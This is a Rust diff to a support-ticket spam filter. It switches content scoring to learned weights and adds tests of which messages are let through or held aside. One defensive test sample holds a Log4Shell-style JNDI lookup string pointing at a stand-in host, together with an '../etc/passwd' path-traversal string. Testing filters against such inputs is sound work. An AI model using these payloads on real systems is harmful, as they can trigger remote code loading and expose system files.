@@ -2,13 +2,16 @@
 //! `ajuda tickets release`. Only far over the limits is a message refused, and then its page says so and keeps what was typed.
 
 pub(super) mod campaign;
+mod features;
 mod links;
-mod offers;
-pub(super) mod score;
+mod score;
+pub(super) mod send_now;
 mod text;
+mod weights;
 
 use crate::config::{Guard, Limits};
 use score::{HELD_FROM, Submission};
+use weights::Weights;
 
 use super::model::Draft;
 
@@ -17,6 +20,9 @@ pub const HONEYPOT: &str = "homepage";
 
 /// The hidden field in which the page tells how many seconds it was open.
 pub const SECONDS: &str = "seconds";
+
+/// Learned by `make train-guard`.
+static WEIGHTS: Weights<'static> = Weights::new(include_bytes!("weights.bin"));
 
 /// So many times the limit are kept aside before messages are refused, so that a flood can't fill the disk.
 const REFUSED_FROM_TIMES_LIMIT: i64 = 5;
@@ -36,7 +42,7 @@ pub enum Held {
     TooFast,
     /// The same text came from other networks and addresses.
     Campaign,
-    /// Its links, letters and wordings are an advertisement's.
+    /// What it says and how it is made is like what nobody wanted before, or it hides something.
     Content,
 }
 
@@ -91,16 +97,23 @@ pub(super) fn judge(draft: &Draft, traffic: Traffic, limits: &Limits, guard: &Gu
         (traffic.of_email > email_limit, Held::Email),
         (draft.seconds.is_some_and(score::is_too_fast), Held::TooFast),
         (traffic.repeated, Held::Campaign),
-        (score::score(&submission(draft)).sum() >= HELD_FROM, Held::Content),
+        (points(draft) >= HELD_FROM, Held::Content),
     ];
     signs.into_iter().find(|(holds, _)| *holds).map_or(Verdict::Accept, |(_, held)| Verdict::KeepAside(held))
+}
+
+/// What a message itself says for and against it, in the points of [`score`].
+fn points(draft: &Draft) -> i64 {
+    score::score(WEIGHTS, &submission(draft)).sum()
 }
 
 fn submission(draft: &Draft) -> Submission<'_> {
     Submission {
         subject: draft.subject.as_str(),
         name: draft.name.as_str(),
+        email: draft.email.as_str(),
         message: draft.message.as_str(),
+        reason: draft.reason.as_deref().unwrap_or_default(),
         has_code: draft.code.is_some(),
         seconds: draft.seconds,
     }
@@ -116,12 +129,12 @@ fn is_blocked(email: &str, blocked: &[String]) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
+pub(super) mod tests {
     use super::*;
     use crate::i18n::Lang;
     use crate::tickets::model::{Email, Message, PersonName, Subject};
 
-    fn draft(message: &str) -> Draft {
+    pub(in crate::tickets::guard) fn draft(message: &str) -> Draft {
         Draft {
             lang: Lang::Pt,
             article: None,
@@ -161,6 +174,41 @@ mod tests {
         assert_eq!(judge(Some(1)), Verdict::KeepAside(Held::TooFast));
         assert_eq!(judge(None), Verdict::Accept);
         assert_eq!(judge(Some(9)), Verdict::Accept);
+    }
+
+    fn points_of(subject: &str, message: &str) -> i64 {
+        points(&Draft { subject: Subject::parse(subject).expect("a subject"), ..draft(message) })
+    }
+
+    #[test]
+    fn what_creators_sell_and_customers_complain_about_is_let_through() {
+        let kept = [
+            ("Reembolso do robô", "Comprei um robô de forex que promete 10% ao dia e não funciona. Quero o reembolso."),
+            ("SEO course", "The coupon for the SEO course was not applied, I paid the full price."),
+            ("Mis enlaces", "Estos dan 404: https://a.example/1 https://a.example/2 https://a.example/3 https://a.example/4"),
+            ("É golpe?", "Recebi no WhatsApp que ganhei R$ 1.000, o link é http://premio.example/x . É de vocês?"),
+            ("Dúvida", "como falo com o dono do curso?"),
+        ];
+        for (subject, message) in kept {
+            assert!(points_of(subject, message) < HELD_FROM, "{subject}");
+        }
+    }
+
+    #[test]
+    fn offers_to_the_company_and_disguises_are_kept_aside() {
+        let held = [
+            "[url=http://a.example]casino[/url]",
+            "Сhеар раgеs fоr уоu",
+            "mNbVcXyLkJhGfDsA",
+            "${jndi:ldap://a.example/x} ../etc/passwd",
+            "v i s i t   u s   r a n k f a s t [dot] example",
+            "We can bring you more customers every month. Shall I send you our price list?",
+            "Somos uma agência de marketing e fazemos tráfego pago para empresas. Posso enviar uma proposta sem compromisso?",
+            "Ofrecemos posicionamiento en Google para su empresa. ¿Le puedo enviar una cotización sin compromiso?",
+        ];
+        for message in held {
+            assert!(points_of("Hello", message) >= HELD_FROM, "{message}");
+        }
     }
 
     #[test]
